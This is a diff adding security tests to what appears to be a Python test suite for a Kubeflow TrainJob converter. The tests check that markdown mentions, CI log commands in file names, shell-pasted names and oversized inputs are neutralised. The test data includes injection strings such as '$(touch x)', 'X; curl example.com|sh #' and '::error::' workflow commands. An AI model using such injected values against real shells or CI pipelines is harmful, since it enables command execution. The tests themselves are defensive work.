@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import json
 import re
+from pathlib import Path
 
 import pytest
 
+from fcompile.cli import main
 from fcompile.convert.report import report
 from tests.convert.operator import DATA, convert
 
@@ -83,8 +85,42 @@ def test_markdown_of_any_name_is_text_or_code(name: str) -> None:
     job = EVERYTHING.replace("backoffLimit: 3", f"{json.dumps(name)}: 3").replace("name: bert-large\n", f"name: {json.dumps(name)}\n", 1)
     found = written(job, "markdown", verbose=True)
     outside = re.sub(r"\\.|`[^`\n]*`", "", found)
-    assert not re.search(r"<(?!/?(?:br|details|summary)>)|@|\]\(|~~|`", outside)
+    assert not re.search(r"<(?!/?(?:br|details|summary)>)|@(?!&#8203;)|\]\(|~~|`", outside)
     assert all(line.count("|") in (4, 0) for line in outside.splitlines() if line.startswith("| "))
+
+
+def test_markdown_mentions_nobody_and_no_issue() -> None:
+    """An entity or an escape does not help: on GitHub, names and numbers are looked for in the page that comes out."""
+    job = EVERYTHING.replace("name: bert-large\n", 'name: "@team/infra #12"\n', 1)
+    assert "@&#8203;team/infra \\#&#8203;12" in written(job, "markdown")
+
+
+@pytest.mark.parametrize("name", ["a|b.yaml", "::error title=x::pwned.yaml", " ::error::x.yaml", "##[error]x.yaml", "`a` @b.yaml"])
+def test_no_name_of_a_file_acts(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / name).write_text(f"{REFUSED}---\n{JAX}", "utf-8")
+    for form in ("text", "markdown", "json"):
+        main(["convert", "--verbose" if form != "json" else "--strict", "--format", form, name])
+        lines = capsys.readouterr().err.splitlines()
+        assert not [line for line in lines if line.lstrip().startswith(("::", "##["))]
+        assert all(re.sub(r"\\\\|\\\|", "", line).count("|") == 4 for line in lines if line.startswith("| "))
+
+
+def test_what_is_to_be_pasted_into_a_shell_is_quoted() -> None:
+    def refused(**reference: str) -> str:
+        spec = {"runtimeRef": reference}
+        job = {"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "metadata": {"name": "t"}, "spec": spec}
+        (account,) = convert(json.dumps(job)).refused
+        return account.reasons[0].text
+
+    assert "`kubectl get clustertrainingruntime '$(touch x)' -o yaml`" in refused(name="$(touch x)")
+    found = refused(name="a", kind="X; curl example.com|sh #")
+    assert found == "there is no such kind of runtimes: it must be ClusterTrainingRuntime or TrainingRuntime"
+
+
+def test_what_is_long_is_cut() -> None:
+    job = EVERYTHING.replace("name: bert-large\n", f"name: {'-' * 100_000}\n", 1).replace("backoffLimit", "k" * 100_000)
+    assert all(len(written(job, form, verbose=form != "json")) < 50_000 for form in ("text", "markdown", "json"))
 
 
 def test_nothing_of_the_input_acts() -> None:
